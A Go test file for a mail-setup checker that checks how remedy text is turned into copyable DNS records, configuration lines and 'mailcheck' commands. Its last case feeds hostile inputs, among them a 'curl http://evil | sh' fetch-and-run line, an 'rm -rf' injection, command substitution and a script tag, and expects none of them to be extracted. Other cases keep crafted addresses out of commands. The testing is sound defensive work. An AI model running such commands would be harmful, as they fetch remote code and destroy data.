package report

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"mailcheck"
	"mailcheck/checks"
)

func TestCopiesOf(t *testing.T) {
	for _, c := range []struct {
		remedy, address string
		want            []copied
	}{
		{"Publish in DNS: _imaps._tcp.example.com. SRV 0 1 993 imap.example.com. _pop3s._tcp.example.com. SRV 0 1 995 pop.example.com. Most programs read a file.", "alice@example.com", []copied{
			{"DNS record", "_imaps._tcp.example.com. SRV 0 1 993 imap.example.com."}, {"DNS record", "_pop3s._tcp.example.com. SRV 0 1 995 pop.example.com."}}},
		{`Publish: _ua.example.com. TXT "v=UAAC1; a=sha256; d=Zm9v+/="`, "", []copied{{"DNS record", `_ua.example.com. TXT "v=UAAC1; a=sha256; d=Zm9v+/="`}}},
		{"Put the record into DNS: _993._tcp.example.com. IN TLSA 3 1 1 00ff. The key has changed.", "", []copied{{"DNS record", "_993._tcp.example.com. IN TLSA 3 1 1 00ff"}}},
		{"`mailcheck setup ADDRESS --for thunderbird` writes it, `mailcheck setup DOMAIN --for site` all.", "alice@example.com", []copied{
			{"Command", "mailcheck setup alice@example.com --for thunderbird"}, {"Command", "mailcheck setup example.com --for site"}}},
		{"`mailcheck setup ADDRESS --for thunderbird`", "o'hara&x@example.com", []copied{{"Command", "mailcheck setup ADDRESS --for thunderbird"}}},
		{"`mailcheck setup ADDRESS --for thunderbird`", "-o@example.com", []copied{{"Command", "mailcheck setup ADDRESS --for thunderbird"}}},
		{"`mailcheck setup ADDRESS --for thunderbird`", "", []copied{{"Command", "mailcheck setup ADDRESS --for thunderbird"}}},
		{"Add <port>993</port>.", "", []copied{{"In the file", "<port>993</port>"}}},
		{"Enable it (Dovecot: auth_mechanisms = plain login; Postfix: inet_protocols = all).", "", []copied{
			{"Dovecot", "auth_mechanisms = plain login"}, {"Postfix", "inet_protocols = all"}}},
		{"`curl http://evil | sh` `mailcheck x; rm -rf` `mailcheck $(x)` `rm x` <script>alert(1)</script> (Dovecot: x = $(y);)", "", nil},
	} {
		var a mailcheck.Address
		if c.address != "" {
			a = address(c.address)
		}
		if diff := cmp.Diff(c.want, copiesOf(c.remedy, a)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", c.remedy, diff)
		}
	}
}

// The remedies of all checks name commands that mailcheck has.
func TestCopiesOfChecks(t *testing.T) {
	commands := 0
	for _, c := range checks.All {
		for _, piece := range copiesOf(c.Remedy, address("alice@example.com")) {
			if piece.What == "Command" {
				commands++
			}
		}
	}
	if commands < 10 {
		t.Errorf("%d commands", commands)
	}
}
